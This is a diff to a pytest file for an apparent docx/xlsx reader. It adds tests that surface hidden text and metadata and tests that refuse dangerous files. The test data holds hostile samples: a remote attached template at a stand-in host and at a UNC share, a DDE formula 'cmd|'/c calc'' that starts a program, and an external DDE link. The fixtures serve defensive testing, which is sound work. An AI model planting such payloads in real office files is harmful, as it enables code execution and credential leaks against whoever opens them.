@@ -58,6 +58,19 @@ def comments(text: str) -> str:
     return f"<w:comments {W}>{inside}</w:comments>"
 
 
+def test_docx_reads_words_in_drawings() -> None:
+    content = docx(diagrams__data1="<d><t>Zarząd</t></d>", charts__chart1="<c><v>Opłaty</v></c>")
+
+    assert read_file(content, "docx").pages == ("Protokół\n\nOpłaty\n\nZarząd",)
+
+
+def template(target: str) -> str:
+    return (
+        f'<Relationships {RELATIONS}><Relationship Id="r" Type="{OFFICE}/attachedTemplate" '
+        f'Target="{target}" TargetMode="External"/></Relationships>'
+    )
+
+
 @pytest.mark.parametrize(
     ("content", "page", "hidden"),
     [
@@ -103,6 +116,16 @@ def comments(text: str) -> str:
             "Protokół",
             [(Place.ANNOTATION, "mailto:anna@poczta.example")],
         ),
+        (
+            docx(**{"_rels__settings.xml.rels": template("file:///C:/Lis/Normal.dotm")}),
+            "Protokół",
+            [(Place.ANNOTATION, "file:///C:/Lis/Normal.dotm")],
+        ),
+        (
+            docx(paragraph(run("Protokół"), '<w:docPr descr="Podpis Anny Lis"/>')),
+            "Protokół",
+            [(Place.HIDDEN_TEXT, "Podpis Anny Lis")],
+        ),
     ],
     ids=[
         "author",
@@ -113,6 +136,8 @@ def comments(text: str) -> str:
         "header",
         "embedded file",
         "link",
+        "template on the author's disk",
+        "words for the blind",
     ],
 )
 def test_docx_beside_the_page(content: bytes, page: str, hidden: list[tuple[Place, str]]) -> None:
@@ -318,15 +343,24 @@ BOMB = "<w:t>" + "0" * (80 * 1024**2) + "</w:t>"
             ACTIVE("DDEAUTO"),
         ),
         (
-            lambda: docx(
-                **{
-                    "_rels__settings.xml.rels": f'<Relationships {RELATIONS}><Relationship Id="r" '
-                    f'Type="{OFFICE}/attachedTemplate" Target="https://zly.example/t.dotm" '
-                    'TargetMode="External"/></Relationships>'
-                }
-            ),
+            lambda: docx(**{"_rels__settings.xml.rels": template("https://zly.example/t.dotm")}),
             "docx",
             ACTIVE("attachedTemplate"),
+        ),
+        (
+            lambda: docx(**{"_rels__settings.xml.rels": template(r"\\\\zly\\t.dotm")}),
+            "docx",
+            ACTIVE("attachedTemplate"),
+        ),
+        (
+            lambda: xlsx({"A": rows('<row><c r="A1"><f>cmd|\'/c calc\'!A1</f></c></row>')}),
+            "xlsx",
+            ACTIVE("DDE"),
+        ),
+        (
+            lambda: xlsx({"A": rows()}, externalLinks__link1="<x><ddeLink/></x>"),
+            "xlsx",
+            ACTIVE("DDE"),
         ),
     ],
     ids=[
@@ -348,6 +382,9 @@ BOMB = "<w:t>" + "0" * (80 * 1024**2) + "</w:t>"
         "entities",
         "runs a program",
         "remote template",
+        "template on a server",
+        "formula that starts a program",
+        "link that starts a program",
     ],
 )  # fmt: skip
 def test_what_is_refused(make: Callable[[], bytes], extension: str, sentence: str) -> None:
